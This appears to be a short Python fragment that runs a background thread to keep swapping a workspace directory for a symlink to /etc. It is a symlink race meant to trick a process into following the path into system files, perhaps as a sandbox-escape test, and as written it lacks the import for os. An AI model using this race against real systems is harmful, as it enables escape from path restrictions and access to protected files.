import threading

os.makedirs("/workspace/a/b/c", exist_ok=True)


def swap():
    while True:
        try:
            os.rename("/workspace/a", "/workspace/x")
            os.symlink("/etc", "/workspace/a")
            os.unlink("/workspace/a")
            os.rename("/workspace/x", "/workspace/a")
        except OSError:
            pass


threading.Thread(target=swap, daemon=True).start()
